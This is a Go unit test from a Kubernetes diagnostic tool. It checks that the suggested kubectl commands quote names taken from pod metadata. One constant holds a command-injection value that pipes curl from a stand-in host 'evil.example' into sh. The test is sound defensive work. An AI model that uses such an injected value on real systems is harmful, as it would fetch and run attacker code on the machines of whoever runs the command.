// Copyright The Kuda Authors.
// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kuda-io/kuda/api/v1alpha1"
)

// The API server takes any text as the name of an owner or of a pull secret.
func TestCommandsToCopyRunNothingThatTheAuthorOfAPodWrote(t *testing.T) {
	const hostile = "x; curl http://evil.example | sh #"
	controls := true
	p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web-0",
		OwnerReferences: []metav1.OwnerReference{{Kind: "StatefulSet", Name: hostile, Controller: &controls}}}}
	lines := restartCommands(p)
	for _, f := range judgePullSecrets([]pullSecret{{name: hostile, namespaces: []string{"shop"}, missing: []string{"shop"}}}) {
		lines = append(lines, f.Do...)
	}
	lines = append(lines, restartAll([]*v1alpha1.Data{{Spec: v1alpha1.DataSpec{PodName: hostile}}})...)
	found := 0
	for _, line := range lines {
		if strings.HasPrefix(line, "kubectl ") && strings.Contains(line, "evil") {
			found++
			if !strings.Contains(line, "'"+hostile+"'") && !strings.Contains(line, "/'"+hostile) {
				t.Error(line)
			}
		}
	}
	if found != 3 {
		t.Errorf("%d commands name it: %q", found, lines)
	}
}
